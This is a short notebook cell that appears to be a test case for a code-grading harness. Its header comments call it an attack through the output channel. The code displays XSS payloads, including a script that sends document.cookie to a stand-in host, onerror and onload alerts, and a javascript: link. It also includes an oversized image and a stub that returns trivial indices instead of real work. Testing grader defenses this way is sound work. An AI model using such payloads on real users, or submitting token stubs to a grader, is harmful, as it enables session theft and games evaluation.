# ATTACK [channel]: shows HTML, SVG, JavaScript and huge images as its output, for whoever opens the executed notebook
# STOPPED BY: outputs stay in the executed notebook, and nothing of the grader renders them as they are
from IPython.display import HTML, Javascript, display

script = "<script>fetch('https://example.org/' + document.cookie)</script><img src=x onerror=alert(1)>"
svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><foreignObject>{script}</foreignObject></svg>"
display(HTML(script), Javascript("alert('reached')"))
display({"image/svg+xml": svg}, raw=True)
display({"image/png": "iVBORw0KGgo" + "A" * 100_000, "text/latex": "$\\href{javascript:alert(1)}{x}$"}, raw=True)


def your_select_indices(targets, losses):
    return [list(range(len(targets)))] * 2
